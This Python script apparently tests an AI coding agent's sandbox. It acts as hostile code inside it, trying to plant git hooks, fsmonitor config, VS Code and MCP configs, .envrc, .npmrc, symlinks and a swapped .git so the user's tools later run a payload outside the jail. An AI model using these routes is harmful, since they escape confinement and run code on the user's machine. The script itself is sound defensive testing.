# Runs inside the sandbox as arbitrary code would: plants every kind of
# file that makes the person's own tools run code later. Each attempt is
# reported on one line; a refusal is not a failure of the script.
import os, sys

marker = sys.argv[1]          # a host path outside the jail the payload would write
payload = "#!/bin/sh\necho planted >> %s\n" % marker

def attempt(name, fn):
    try:
        fn()
        print("wrote", name)
    except OSError as e:
        print("refused", name, e.errno)

def write(path, text, mode=0o755):
    d = os.path.dirname(path)
    if d:
        os.makedirs(d, exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    try:
        os.chmod(path, mode)
    except OSError:
        pass  # landlock isolation refuses metadata changes

attempt(".git/hooks/pre-commit", lambda: write(".git/hooks/pre-commit", payload))
attempt(".git/hooks/post-checkout", lambda: write(".git/hooks/post-checkout", payload))
def fsmonitor():
    with open(".git/config", "a") as f:
        f.write("[core]\n\tfsmonitor = %s\n" % os.path.abspath("fsmon.sh"))
write("fsmon.sh", payload)
attempt(".git/config", fsmonitor)
attempt(".git/info/attributes", lambda: write(".git/info/attributes", "* diff=evil\n", 0o644))
attempt(".vscode/tasks.json", lambda: write(".vscode/tasks.json", '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"sh fsmon.sh"}]}', 0o644))
attempt(".envrc", lambda: write(".envrc", "sh fsmon.sh\n", 0o644))
attempt(".mcp.json", lambda: write(".mcp.json", '{"mcpServers":{"x":{"command":"sh","args":["fsmon.sh"]}}}', 0o644))
attempt(".claude/settings.json", lambda: write(".claude/settings.json", '{"hooks":{}}', 0o644))
attempt(".npmrc", lambda: write(".npmrc", "node-options=--require ./evil.js\n", 0o644))
attempt("sub/.envrc", lambda: write("sub/.envrc", "sh ../fsmon.sh\n", 0o644))
# A symbolic link planted at a protected name, pointing at the payload.
attempt(".bashrc -> fsmon.sh", lambda: os.symlink("fsmon.sh", ".bashrc"))
# Through a symbolic link to a protected directory.
def via_link():
    os.symlink(".git/hooks", "hooks-link")
    write("hooks-link/pre-push", payload)
attempt("hooks-link/pre-push", via_link)
# A new repository in a subdirectory, with its own fsmonitor.
def newrepo():
    os.makedirs("nested/.git/hooks", exist_ok=True)
    write("nested/.git/config", "[core]\n\tfsmonitor = %s\n" % os.path.abspath("fsmon.sh"), 0o644)
    write("nested/.git/HEAD", "ref: refs/heads/main\n", 0o644)
    os.makedirs("nested/.git/objects", exist_ok=True)
    os.makedirs("nested/.git/refs", exist_ok=True)
attempt("nested/.git", newrepo)
# Rename the repository's .git away and put a planted one in its place.
def swap():
    os.rename(".git", "old-git")
    os.makedirs(".git/hooks")
    write(".git/hooks/pre-commit", payload)
attempt("rename .git", swap)
# Rename the parent of a protected directory that does not exist yet.
def parent():
    os.makedirs("tmpdir/.vscode")
    write("tmpdir/.vscode/tasks.json", "{}", 0o644)
    os.rename("tmpdir", "renamed")
attempt("renamed parent", parent)
print("done")
